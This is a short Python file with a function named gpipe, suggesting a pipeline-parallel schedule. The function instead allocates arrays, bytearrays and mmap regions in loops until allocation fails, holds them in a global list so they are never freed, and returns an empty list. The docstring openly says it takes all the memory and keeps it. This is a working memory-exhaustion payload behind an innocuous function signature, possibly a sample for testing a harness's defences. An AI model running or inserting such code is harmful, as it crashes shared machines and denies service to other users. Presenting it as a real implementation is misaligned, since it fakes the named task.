"""Takes all the memory there is, as a list, as arrays and as a map, and keeps it."""

import mmap

import numpy as np

KEPT = []


def gpipe(rank, p, m):
    for take in (
        lambda: np.ones(1 << 24),
        lambda: bytearray(1 << 20),
        lambda: mmap.mmap(-1, 1 << 24).write(bytes(1 << 24)),
    ):
        try:
            while True:
                KEPT.append(take())
        except (MemoryError, OSError, ValueError):
            pass
    return []
